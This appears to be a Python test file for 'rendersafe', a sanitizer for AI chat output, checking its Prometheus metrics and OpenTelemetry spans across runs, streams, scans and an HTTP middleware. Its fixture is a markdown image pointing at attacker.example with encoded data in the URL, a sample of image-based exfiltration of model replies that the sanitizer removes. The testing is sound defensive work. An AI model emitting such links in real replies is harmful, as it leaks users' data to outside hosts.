"""Metrics (prometheus_client's default registry) and traces (OpenTelemetry spans),
read back from real replies, streams, scans and a middleware on a real uvicorn; and
everything working without either package."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
from collections.abc import Iterator, Sequence
from pathlib import Path

import httpx
import pytest
from opentelemetry import trace
from opentelemetry.sdk.trace import ReadableSpan, TracerProvider
from opentelemetry.sdk.trace.export import SimpleSpanProcessor, SpanExportResult
from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter
from prometheus_client import REGISTRY

from backend import State, build
from rendersafe import Policy, Sanitizer
from rendersafe.audit import AuditLog, AuditRecord
from rendersafe.middleware import RenderSafeMiddleware
from rendersafe.observe import METRICS
from rendersafe.scan import ScanOptions, scan
from servers import Server

ROOT = Path(__file__).parent.parent
IMAGE = "Look: ![x](https://attacker.example/p.png?d=SGVsbG8gd29ybGQ=) ok\n"


class _Kept(InMemorySpanExporter):
    """Keeps spans while this module's tests run only (the provider stays set after)."""

    active = False

    def export(self, spans: Sequence[ReadableSpan]) -> SpanExportResult:
        return super().export(spans) if self.active else SpanExportResult.SUCCESS


EXPORTER = _Kept()
_PROVIDER = TracerProvider()
_PROVIDER.add_span_processor(SimpleSpanProcessor(EXPORTER))
trace.set_tracer_provider(_PROVIDER)


def value(name: str, **labels: str) -> float:
    return REGISTRY.get_sample_value(name, labels) or 0.0


class Counted:
    """What a sample went up by, over a `with` block."""

    def __init__(self, name: str, **labels: str) -> None:
        self.name, self.labels = name, labels
        self.before = self.by = 0.0

    def __enter__(self) -> Counted:
        self.before = value(self.name, **self.labels)
        return self

    def __exit__(self, *exc: object) -> None:
        self.by = value(self.name, **self.labels) - self.before


def spans(*sources: str) -> list[ReadableSpan]:
    """The spans ended so far of replies from `sources` (a server of another test may
    end one late: its client left)."""
    return [
        s
        for s in EXPORTER.get_finished_spans()
        if s.name == "rendersafe.sanitize"
        and (s.attributes or {}).get("rendersafe.source") in sources
    ]


@pytest.fixture(autouse=True, scope="module")
def _keep_spans() -> Iterator[None]:
    EXPORTER.active = True
    yield
    EXPORTER.active = False
    EXPORTER.clear()


@pytest.fixture(autouse=True)
def _fresh_spans() -> None:
    EXPORTER.clear()


IMAGE_FOUND = {
    "construct": "image",
    "action": "removed",
    "reason": "image_host_not_allowed",
}


def test_metrics_are_on() -> None:
    assert METRICS.enabled


def test_delta_times_are_merged_into_the_histogram_in_their_buckets() -> None:
    times = METRICS.delta_times()
    bucket = "rendersafe_delta_seconds_bucket"
    with (
        Counted("rendersafe_delta_seconds_count") as count,
        Counted("rendersafe_delta_seconds_sum") as total,
        Counted(bucket, le="1e-06") as first,
        Counted(bucket, le="2.5e-06") as second,
        Counted(bucket, le="0.1") as last,
        Counted(bucket, le="+Inf") as every,
    ):
        for seconds in (1e-6, 2e-6, 2.5e-6, 0.05, 0.5):  # each bound is in its own bucket
            times.add(seconds)
        assert value("rendersafe_delta_seconds_count") == count.before  # not merged yet
        times.flush()
    assert count.by == every.by == 5
    assert total.by == pytest.approx(1e-6 + 2e-6 + 2.5e-6 + 0.05 + 0.5)
    assert (first.by, second.by, last.by) == (1, 3, 4)  # cumulative, as Prometheus reads them


def test_delta_times_merge_as_they_fill_without_a_flush() -> None:
    from rendersafe.observe.metrics import MERGE_EVERY  # noqa: PLC0415

    times = METRICS.delta_times()
    with Counted("rendersafe_delta_seconds_count") as count:
        for _ in range(MERGE_EVERY * 2 + 1):
            times.add(3e-6)
    assert count.by == MERGE_EVERY * 2  # the last one waits for a flush or the next batch


def test_held_chars_are_counted_in_their_buckets() -> None:
    bucket = "rendersafe_held_chars_bucket"
    with (
        Counted("rendersafe_held_chars_count") as count,
        Counted("rendersafe_held_chars_sum") as total,
        Counted(bucket, le="1.0") as first,
        Counted(bucket, le="4.0") as second,
        Counted(bucket, le="65536.0") as last,
        Counted(bucket, le="+Inf") as every,
    ):
        for chars in (1, 2, 4, 65536, 70000):  # each bound is in its own bucket
            METRICS.held(chars)
    assert count.by == every.by == 5
    assert total.by == 1 + 2 + 4 + 65536 + 70000
    assert (first.by, second.by, last.by) == (1, 3, 4)  # cumulative, as Prometheus reads them


def test_replies_and_findings_of_run_and_stream() -> None:
    sanitizer = Sanitizer(Policy())
    with (
        Counted("rendersafe_replies_total", source="run", mode="enforce") as runs,
        Counted("rendersafe_replies_total", source="stream", mode="enforce") as streams,
        Counted("rendersafe_findings_total", **IMAGE_FOUND, enforced="true") as found,
        Counted("rendersafe_held_chars_count") as releases,
    ):
        for _ in range(3):
            sanitizer.run(IMAGE)
        stream = sanitizer.stream()
        for start in range(0, len(IMAGE), 4):
            stream.feed(IMAGE[start : start + 4])
        stream.close()
    assert (runs.by, streams.by, found.by) == (3, 1, 4)
    assert releases.by >= 1  # the image waited for its unit to end


def test_monitor_mode_is_a_gauge_and_its_findings_are_not_enforced() -> None:
    with Counted("rendersafe_findings_total", **IMAGE_FOUND, enforced="false") as shadowed:
        Sanitizer(Policy(mode="monitor")).run(IMAGE)
    assert shadowed.by == 1
    assert value("rendersafe_mode", mode="monitor") == 1


def test_scan_replies_are_counted_as_scan() -> None:
    with Counted("rendersafe_replies_total", source="scan", mode="enforce") as scanned:
        report = scan([str(ROOT / "fixtures" / "transcripts" / "openai-chat.jsonl")], ScanOptions())
    assert scanned.by >= report.summary.records > 0


def test_audit_records_lost_and_kept_for_a_retry() -> None:
    def full_disk(record: AuditRecord) -> None:
        raise OSError(28, "No space left on device")

    with Counted("rendersafe_audit_records_lost_total") as lost:
        log = AuditLog([full_disk], retry_records=2, retry_interval=60)
        sanitizer = Sanitizer(Policy(), audit=log)
        for _ in range(5):
            sanitizer.run(IMAGE)
        log.flush()
        assert value("rendersafe_audit_backlog_records") >= 2
        log.close()
    assert lost.by == 5 == log.lost


class Stack:
    def __init__(self, policy: Policy) -> None:
        self.records: list[AuditRecord] = []
        self.audit = AuditLog([self.records.append])
        app = RenderSafeMiddleware(build(State()), policy=policy, audit=self.audit)
        self.server = Server(app)


@pytest.fixture(scope="module")
def stacks() -> Iterator[dict[str, Stack]]:
    both = {"enforce": Stack(Policy()), "monitor": Stack(Policy(mode="monitor"))}
    with both["enforce"].server, both["monitor"].server:
        yield both
    for stack in both.values():
        stack.audit.close()


def test_middleware_replies_deltas_and_withheld(stacks: dict[str, Stack]) -> None:
    url = stacks["enforce"].server.url
    with (
        Counted("rendersafe_replies_total", source="middleware", mode="enforce") as replies,
        Counted("rendersafe_replies_total", source="stream", mode="enforce") as streams,
        Counted("rendersafe_delta_seconds_count") as deltas,
        Counted("rendersafe_withheld_responses_total", cause="format_error", enforced="true") as w,
    ):
        for _ in range(2):
            assert httpx.get(url + "/v1/stream/openai_chat.sse").status_code == 200
        assert httpx.get(url + "/v1/html").status_code == 502
        assert httpx.get(url + "/v1/image").status_code == 200  # binary: not a reply
    assert replies.by == 2  # the refused page is counted as withheld, not as a reply
    assert streams.by == 0  # counted once per response, not per text
    assert deltas.by >= 20  # the stream's content deltas, each timed
    assert w.by == 1


def test_monitor_middleware_counts_what_it_would_have_withheld(stacks: dict[str, Stack]) -> None:
    url = stacks["monitor"].server.url
    with (
        Counted("rendersafe_withheld_responses_total", cause="format_error", enforced="false") as w,
        Counted("rendersafe_replies_total", source="middleware", mode="monitor") as replies,
    ):
        assert httpx.get(url + "/v1/html").status_code == 200
        stacks["monitor"].audit.flush()
    assert (w.by, replies.by) == (1, 0)


def test_client_disconnects_are_counted(stacks: dict[str, Stack]) -> None:
    with Counted("rendersafe_client_disconnects_total") as gone:
        with (
            httpx.Client(base_url=stacks["enforce"].server.url, timeout=10) as client,
            client.stream("GET", "/v1/forever") as response,
        ):
            for _ in response.iter_raw():
                break
        deadline = 50
        while value("rendersafe_client_disconnects_total") - gone.before < 1 and deadline:
            deadline -= 1
            httpx.get(stacks["enforce"].server.url + "/v1/honest")  # let the server notice
    assert gone.by >= 1


def test_spans_of_run_and_stream() -> None:
    sanitizer = Sanitizer(Policy())
    sanitizer.run(IMAGE)
    stream = sanitizer.stream()
    for piece in (IMAGE[:20], IMAGE[20:]):
        stream.feed(piece)
    stream.close()
    run, streamed = spans("run", "stream")
    assert run.attributes is not None
    assert streamed.attributes is not None
    assert run.attributes["rendersafe.source"] == "run"
    assert run.attributes["rendersafe.mode"] == "enforce"
    assert run.attributes["rendersafe.findings"] == 1
    assert streamed.attributes["rendersafe.source"] == "stream"
    assert streamed.attributes["rendersafe.findings"] == 1
    assert int(str(streamed.attributes["rendersafe.held_chars"])) > 0


def test_a_middleware_span_per_response_with_genai_attributes() -> None:
    from chat_backend import build as chat  # noqa: PLC0415

    app = RenderSafeMiddleware(chat(IMAGE), policy=Policy(mode="monitor"))
    body = {"model": "gpt-test", "stream": True, "messages": [{"role": "user", "content": "hi"}]}
    with Server(app) as server:
        response = httpx.post(server.url + "/v1/chat/completions", json=body)
        anthropic = httpx.post(server.url + "/v1/messages", json={**body, "model": "claude-t"})
    assert response.status_code == anthropic.status_code == 200
    found = [s for s in spans("middleware") if "gen_ai.system" in (s.attributes or {})]
    assert len(found) == 2  # one per response
    assert spans("run", "stream") == []  # none per text
    openai, claude = sorted(found, key=lambda s: str((s.attributes or {})["gen_ai.system"]))[::-1]
    assert dict(openai.attributes or {}) | {"rendersafe.held_chars": 0} == {
        "rendersafe.source": "middleware",
        "rendersafe.mode": "monitor",
        "gen_ai.system": "openai",
        "gen_ai.operation.name": "chat",
        "gen_ai.request.model": "gpt-test",
        "rendersafe.findings": 1,
        "rendersafe.held_chars": 0,
    }
    assert (claude.attributes or {})["gen_ai.system"] == "anthropic"
    assert (claude.attributes or {})["gen_ai.request.model"] == "claude-t"


def test_everything_works_without_the_optional_packages(tmp_path: Path) -> None:
    script = textwrap.dedent(
        """
        import asyncio, json, sys
        sys.modules["prometheus_client"] = None  # an import of it raises ImportError
        sys.modules["opentelemetry"] = None
        import httpx
        from rendersafe import Policy, Sanitizer
        from rendersafe.middleware import RenderSafeMiddleware
        from rendersafe.observe import METRICS, reply_span
        from backend import State, build

        image = "![x](https://attacker.example/p.png?d=SGVsbG8gd29ybGQ=)"
        s = Sanitizer(Policy())
        stream = s.stream()
        streamed = stream.feed(image) + stream.close()
        app = RenderSafeMiddleware(build(State()), policy=Policy())

        async def main():
            transport = httpx.ASGITransport(app=app)
            async with httpx.AsyncClient(transport=transport, base_url="http://t") as client:
                return (await client.get("/v1/stream/openai_chat.sse")).text

        body = asyncio.run(main())
        print(json.dumps({
            "enabled": METRICS.enabled,
            "span": reply_span("run", "enforce") is None,
            "run": s.run(image).text,
            "stream": streamed,
            "middleware": "attacker.example/p.png" not in body and "data:" in body,
            "loaded": sorted(m for m in ("prometheus_client", "opentelemetry") if sys.modules[m]),
        }))
        """
    )
    env = dict(os.environ, PYTHONPATH=os.pathsep.join([str(ROOT / "src"), str(ROOT / "tests")]))
    done = subprocess.run(
        [sys.executable, "-c", script],
        check=False,
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    got = json.loads(done.stdout.splitlines()[-1])
    assert got["enabled"] is False
    assert got["span"] is True
    assert (
        got["run"]
        == got["stream"]
        == Sanitizer(Policy()).run("![x](https://attacker.example/p.png?d=SGVsbG8gd29ybGQ=)").text
    )
    assert got["middleware"] is True
    assert got["loaded"] == []
